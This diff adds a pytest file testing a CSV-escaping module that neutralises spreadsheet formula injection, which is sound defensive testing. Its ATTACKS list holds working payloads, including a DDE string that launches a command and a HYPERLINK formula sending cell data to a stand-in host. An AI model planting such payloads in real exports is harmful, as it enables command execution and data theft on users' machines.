@@ -1,0 +1,101 @@
+"""CSV formula injection: detectbench_web.csv_safety writes cells a spreadsheet reads as text."""
+from __future__ import annotations
+
+import csv
+import io
+
+import pytest
+
+from detectbench_web import csv_safety
+
+ATTACKS = [
+    "=cmd|' /C calc'!A0",  # the issue's PROLIFIC_PID
+    "@SUM(1+1)",  # the issue's STUDY_ID
+    "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")",
+    "+1+2",
+    "-2+3",
+    "-=1",
+    "\t=1+1",
+    "\r=1+1",
+    "\tplain after a tab",
+    "|calc",
+    "%0A=1",
+    "=1\n=2",
+]
+
+
+def _written(rows, **kwargs) -> str:
+    buffer = io.StringIO()
+    csv_safety.writer(buffer, **kwargs).writerows(rows)
+    return buffer.getvalue()
+
+
+def _read(text: str) -> list[list[str]]:
+    return list(csv.reader(io.StringIO(text)))
+
+
+@pytest.mark.parametrize("attack", ATTACKS)
+def test_formula_starters_are_neutralised(attack):
+    [[cell]] = _read(_written([[attack]]))
+    assert cell.startswith("'"), cell
+    assert cell[1:].replace("\\|", "|") == attack  # the text is kept, only made inert
+
+
+@pytest.mark.parametrize("value, expected", [
+    ("plain text", "plain text"),
+    ("a=b+c", "a=b+c"),  # only the first character matters
+    ("", ""),
+    (None, ""),
+    (42, "42"),
+    (-3, "-3"),
+    (-1.5, "-1.5"),
+    ("-1.5", "-1.5"),  # a negative number stays a number
+    ("1,234.5", "1,234.5"),
+    (" =1+1", " =1+1"),  # a leading space makes it text in spreadsheets
+    ("多 = 少", "多 = 少"),
+])
+def test_harmless_cells_are_unchanged(value, expected):
+    [[cell]] = _read(_written([[value]]))
+    assert cell == expected
+
+
+def test_every_row_and_quoting_still_round_trip():
+    rows = [["id", "text"], [1, 'he said "=no", then, left\nthe room'], [2, "@home"]]
+    assert _read(_written(rows)) == [["id", "text"], ["1", 'he said "=no", then, left\nthe room'], ["2", "'@home"]]
+
+
+def test_writerow_returns_what_the_file_returned_for_streaming_exports():
+    class Echo:
+        def write(self, value):
+            return value
+
+    line = csv_safety.writer(Echo()).writerow(["=1+1", "ok"])
+    assert line == "'=1+1,ok\r\n"
+
+
+def test_dict_writer_neutralises_header_and_cells():
+    buffer = io.StringIO()
+    out = csv_safety.DictWriter(buffer, fieldnames=["participant", "=bad header"], restval="")
+    out.writeheader()
+    out.writerow({"participant": "=cmd|' /C calc'!A0"})
+    out.writerows([{"participant": "+1", "=bad header": "-x"}])
+    assert _read(buffer.getvalue()) == [["participant", "'=bad header"], ["'=cmd\\|' /C calc'!A0", ""],
+                                        ["'+1", "'-x"]]
+
+
+def test_dialect_and_format_parameters_pass_through():
+    text = _written([["=a", "b"]], delimiter="\t", lineterminator="\n")
+    assert text == "'=a\tb\n"
+
+
+def test_safe_cell_matches_the_writer():
+    for value in [*ATTACKS, "plain", "-1.5", None]:
+        [[cell]] = _read(_written([[value]]))
+        assert csv_safety.safe_cell(value) == cell
+
+
+def test_no_written_cell_starts_with_a_formula_character():
+    starters = "=+-@\t\r|%"
+    rows = [[c + "1+1" for c in starters], [c + "A1" for c in starters]]
+    for row in _read(_written(rows)):
+        assert not [cell for cell in row if cell[:1] in starters]
